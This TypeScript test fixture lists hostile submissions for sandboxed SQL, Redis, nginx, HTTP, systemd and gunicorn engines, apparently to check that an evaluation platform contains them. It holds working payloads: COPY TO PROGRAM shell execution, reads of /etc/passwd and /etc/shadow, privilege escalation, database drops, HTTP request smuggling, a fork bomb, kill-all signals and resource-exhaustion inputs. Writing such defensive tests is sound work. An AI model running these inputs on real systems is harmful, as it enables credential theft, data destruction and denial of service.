import type { SnippetKind } from "@/lib/protocol/evidence";

/** Texts that nobody should hand in, for the engines beside the shell. `id` is a task of the samples; CANARY_FILE stands for a file of the server. */
export type HostileSubmission = { kind: SnippetKind; id: string; options: Record<string, unknown>; name: string; source: string };

const sql = { kind: "sql", id: "transfer", options: {} } as const;
const script = { kind: "redis", id: "counter", options: { form: "script" } } as const;
const commands = { kind: "redis", id: "cache", options: { form: "commands" } } as const;
const nginx = (context: "main" | "http" | "server") => ({ kind: "nginx", id: "site", options: { context } }) as const;
const http = { kind: "http", id: "order", options: {} } as const;
const systemd = { kind: "systemd", id: "unit", options: {} } as const;
const gunicorn = { kind: "gunicorn", id: "workers", options: {} } as const;

const sqlTexts: HostileSubmission[] = [
  { ...sql, name: "programs", source: "COPY accounts TO PROGRAM 'id > /tmp/x'; COPY accounts FROM PROGRAM 'cat /etc/passwd'" },
  { ...sql, name: "files", source: "COPY accounts FROM '/etc/passwd'; SELECT pg_read_file('/etc/passwd'); SELECT lo_import('/etc/passwd')" },
  { ...sql, name: "more rights", source: "ALTER ROLE candidate SUPERUSER; SET ROLE postgres; CREATE EXTENSION plpython3u; ALTER SYSTEM SET fsync = on" },
  { ...sql, name: "other databases", source: "CREATE EXTENSION dblink; SELECT dblink_connect('dbname=postgres')" },
  { ...sql, name: "a query that never ends", source: "SET statement_timeout = 0; SELECT count(*) FROM generate_series(1, 1e12)" },
  { ...sql, name: "sleep", source: "SET statement_timeout = 0; SELECT pg_sleep(60)" },
  { ...sql, name: "a loop", source: "SET statement_timeout = 0; DO $$ BEGIN LOOP END LOOP; END $$" },
  { ...sql, name: "a recursion", source: "SET statement_timeout = 0; WITH RECURSIVE r AS (SELECT repeat('x', 10000) AS t UNION ALL SELECT t || 'x' FROM r) SELECT count(*) FROM r" },
  { ...sql, name: "memory", source: "SET work_mem = '2GB'; SELECT string_agg(repeat('x', 1000000), '') FROM generate_series(1, 900)" },
  { ...sql, name: "a large value", source: "SELECT repeat('x', 900000000)" },
  { ...sql, name: "ten million rows", source: "SET statement_timeout = 0; SELECT n, repeat('x', 100) FROM generate_series(1, 10000000) AS n" },
  { ...sql, name: "disk", source: "SET statement_timeout = 0; CREATE TABLE big AS SELECT repeat(md5(n::text), 50) FROM generate_series(1, 10000000) AS n" },
  { ...sql, name: "locks", source: "BEGIN; LOCK TABLE accounts; SELECT pg_advisory_lock(1)" },
  { ...sql, name: "notices", source: "DO $$ BEGIN FOR n IN 1..1000000 LOOP RAISE NOTICE '%', repeat('x', 1000); END LOOP; END $$" },
  { ...sql, name: "the end of its own connection", source: "SELECT pg_terminate_backend(pg_backend_pid())" },
  { ...sql, name: "standard input", source: "COPY accounts FROM STDIN" },
  { ...sql, name: "nesting", source: `SELECT ${"(".repeat(20_000)}1${")".repeat(20_000)}` },
  { ...sql, name: "a regular expression that backtracks", source: "SELECT repeat('a', 50000) ~ '(a|aa)+\\1(a|aa)+\\1b$'" },
  { ...sql, name: "psql's commands and NUL", source: "\\! id\n\0SELECT 1" },
  { ...sql, name: "no tables any more", source: "DROP TABLE accounts; DROP OWNED BY candidate CASCADE; DROP DATABASE task" },
  { ...sql, name: "a file of the server", source: "COPY accounts FROM 'CANARY_FILE'; SELECT pg_read_file('CANARY_FILE'); SELECT lo_import('CANARY_FILE')" },
];

const redisTexts: HostileSubmission[] = [
  { ...script, name: "script that never ends", source: "while true do end" },
  { ...script, name: "script that grows", source: "local s = 'x' while true do s = s .. s end" },
  { ...script, name: "script that fills the server", source: "for i = 1, 1e9 do redis.call('SET', 'k' .. i, string.rep('x', 1000)) end" },
  { ...script, name: "script that answers a megabyte", source: "return string.rep('x', 2000000)" },
  { ...script, name: "script that reaches for the system", source: "return os.execute('id') or io.open('/etc/passwd')" },
  { ...script, name: "script nested without end", source: "local t = {} local r = t for i = 1, 5000 do t[1] = {} t = t[1] end return r" },
  { ...commands, name: "server asleep", source: "DEBUG SLEEP 100" },
  { ...commands, name: "server shut down", source: "SHUTDOWN NOSAVE" },
  { ...commands, name: "blocking read", source: "BLPOP nothing 0" },
  { ...commands, name: "subscription", source: "SUBSCRIBE a\nMONITOR" },
  { ...commands, name: "replies switched off", source: "CLIENT REPLY OFF\nSET greeting x" },
  { ...commands, name: "another protocol", source: "HELLO 3\nCONFIG GET *" },
  { ...commands, name: "files of the host", source: "CONFIG SET dir /etc\nCONFIG SET dbfilename passwd\nSAVE\nMODULE LOAD /tmp/x.so" },
  { ...commands, name: "network", source: "REPLICAOF 192.0.2.1 6379\nMIGRATE 192.0.2.1 6379 k 0 1000" },
  { ...commands, name: "thousands of lines", source: "SET a b\n".repeat(8_000) },
  { ...commands, name: "protocol in the text", source: "*1\r\n$8\r\nFLUSHALL\r\n\0\u0001" },
  { ...script, name: "script that opens a file of the server", source: "return (loadfile or dofile or print)('CANARY_FILE') or io.open('CANARY_FILE'):read()" },
  { ...script, name: "script with a pattern that backtracks", source: "return string.find(string.rep('a', 30000), string.rep('a?', 30000) .. 'b')" },
  { ...commands, name: "memory", source: "CONFIG SET maxmemory 0\nSETRANGE greeting 536870911 x\nSETBIT b 4294967295 1" },
  { ...commands, name: "other servers", source: "SLAVEOF 192.0.2.1 6379\nCLUSTER MEET 192.0.2.1 6379\nMODULE LOAD /usr/lib/x.so\nDEBUG SEGFAULT" },
];

const nginxTexts: HostileSubmission[] = [
  { ...nginx("server"), name: "a loop between locations", source: "location / { proxy_pass http://127.0.0.1:8080; }" },
  { ...nginx("server"), name: "rewrites without end", source: "location / { rewrite ^ /a last; } location /a { rewrite ^ /b last; } location /b { rewrite ^ /a last; }" },
  { ...nginx("server"), name: "answers a byte a second", source: `location / { limit_rate 1; proxy_pass http://127.0.0.1:8000; }` },
  { ...nginx("server"), name: "files of the host", source: "location / { root /; autoindex on; } location = /old { alias /etc/shadow; }" },
  { ...nginx("server"), name: "the first process's environment", source: "location / { alias /proc/1/environ; } location = /old { root /proc/self; try_files /environ =410; }" },
  { ...nginx("http"), name: "includes of the host", source: "include /etc/*; include /proc/1/environ; include /etc/nginx/sites-enabled/*;" },
  { ...nginx("main"), name: "a module of its own", source: "load_module /tmp/x.so;" },
  { ...nginx("main"), name: "thousands of workers", source: "worker_processes 5000; events {} http { server { listen 8080; } }" },
  { ...nginx("main"), name: "memory without end", source: "events {} http { limit_req_zone $uri zone=a:9g rate=1r/s; server { listen 8080; } }" },
  { ...nginx("server"), name: "a regular expression that backtracks", source: "location ~ ^/(a|a)*(a|a)*$ { return 200; }" },
  { ...nginx("main"), name: "a daemon", source: "daemon on; master_process off; events {} http { server { listen 8080; } }" },
  { ...nginx("server"), name: "another address", source: "location / { proxy_pass http://192.0.2.1; proxy_connect_timeout 60s; }" },
  { ...nginx("server"), name: "a resolver", source: "location / { resolver 192.0.2.53; set $h example.com; proxy_pass http://$h; }" },
  { ...nginx("server"), name: "thousands of blocks", source: "location /a { ".repeat(4_000) },
  { ...nginx("server"), name: "one endless word", source: "a".repeat(60_000) },
  { ...nginx("server"), name: "NUL and control characters", source: "\0\u0001\u001b[2J;{}" },
  { ...nginx("main"), name: "nothing", source: "" },
  { ...nginx("server"), name: "a file of the server", source: "location / { alias CANARY_FILE; } location = /old { root /; try_files CANARY_FILE =410; } include CANARY_FILE;" },
];

const httpTexts: HostileSubmission[] = [
  { ...http, name: "two lengths", source: "POST /orders HTTP/1.1\nHost: a\nContent-Length: 3\nContent-Length: 5\n\n{}" },
  { ...http, name: "length and chunks", source: "POST /orders HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\nContent-Length: 5\n\n0\n" },
  { ...http, name: "a chunk of gigabytes", source: "POST /orders HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\nfffffffff\r\nx" },
  { ...http, name: "a head without end", source: `GET / HTTP/1.1\n${"A: b\n".repeat(10_000)}` },
  { ...http, name: "an endless header", source: `GET / HTTP/1.1\nHost: ${"a".repeat(60_000)}\n\n` },
  { ...http, name: "an upgrade", source: "GET /carts/7 HTTP/1.1\nHost: a\nConnection: Upgrade\nUpgrade: websocket\n\n" },
  { ...http, name: "a tunnel", source: "CONNECT 127.0.0.1:22 HTTP/1.1\nHost: a\n\n" },
  { ...http, name: "an expectation", source: "POST /orders HTTP/1.1\nHost: a\nExpect: 100-continue\nContent-Length: 9\n\n" },
  { ...http, name: "another protocol", source: "PRI * HTTP/2.0\n\nSM\n\n" },
  { ...http, name: "prototype names", source: 'POST /orders HTTP/1.1\nHost: a\nIdempotency-Key: __proto__\n\n{"__proto__": {"cart": 7}, "constructor": 1}' },
  { ...http, name: "deep nesting", source: `POST /orders HTTP/1.1\nHost: a\nIdempotency-Key: aaaaaaaaa\n\n${"[".repeat(30_000)}${"]".repeat(30_000)}` },
  { ...http, name: "a thousand requests", source: "GET /carts/7 HTTP/1.1\nHost: a\n\n###\n".repeat(1_000) },
  { ...http, name: "NUL and control characters", source: "\0\u0001 / HTTP/1.1\n\u001b: 1\n\n" },
  { ...http, name: "a body of a megabyte", source: `POST /orders HTTP/1.1\nHost: a\nIdempotency-Key: aaaaaaaaa\n\n{"cart": "${"x".repeat(1_000_000)}"}` },
];

const systemdTexts: HostileSubmission[] = [
  { ...systemd, name: "a file of the host as program", source: "[Service]\nExecStart=/srv/../etc/shadow\n" },
  { ...systemd, name: "environment files, includes and links", source: "[Service]\nExecStart=/bin/true\nEnvironmentFile=/etc/shadow\nEnvironmentFile=/proc/1/environ\n.include /etc/shadow\n" },
  { ...systemd, name: "half a megabyte of keys", source: `[Service]\n${"X=1\n".repeat(15_000)}` },
  { ...systemd, name: "one endless line", source: `[Service]\nExecStart=/bin/${"a".repeat(60_000)}` },
  { ...systemd, name: "backslashes without end", source: `[Service]\nExecStart=${"\\\n".repeat(30_000)}` },
  { ...systemd, name: "NUL and control characters", source: "[Service]\nExecStart=\0\u001b[2J\n\u0007=1" },
  { ...systemd, name: "a generator of units", source: `[Service]\n${"Requires=a@%i.service ".repeat(2_000)}` },
];

const gunicornTexts: HostileSubmission[] = [
  { ...gunicorn, name: "memory without end", source: `x = []\nwhile True: x.append(bytearray(1 << 20))\n` },
  { ...gunicorn, name: "a loop", source: `while True: pass\n` },
  { ...gunicorn, name: "a fork bomb", source: "import os\nwhile True:\n  os.fork()\n" },
  { ...gunicorn, name: "a file of the server", source: "import os\nbind = open('CANARY_FILE').read()\n" },
  { ...gunicorn, name: "the server's own processes", source: "import os, signal\nbind = open('/proc/1/environ').read()\nos.kill(-1, signal.SIGKILL)\n" },
  { ...gunicorn, name: "output without end", source: "while True: print('x' * 100000)\n" },
];

export const HOSTILE_SUBMISSIONS: readonly HostileSubmission[] = [...sqlTexts, ...redisTexts, ...nginxTexts, ...httpTexts, ...systemdTexts, ...gunicornTexts];
